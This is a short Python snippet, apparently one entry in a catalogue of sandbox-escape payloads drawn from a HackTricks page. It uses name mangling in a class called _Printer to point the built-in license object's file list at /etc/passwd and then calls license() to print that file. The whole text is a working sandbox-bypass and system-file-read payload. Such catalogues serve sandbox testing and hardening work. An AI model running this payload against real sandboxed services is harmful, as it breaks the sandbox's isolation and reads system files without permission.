# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (license._Printer__filenames)
# Family: name-mangling
# What: inside a class named _Printer, self.__filenames mangles to _Printer__filenames and is assigned on license
class _Printer:
    def hijack(self, obj):
        obj.__filenames = ["/etc/passwd"]

_Printer.hijack(None, license)
license()
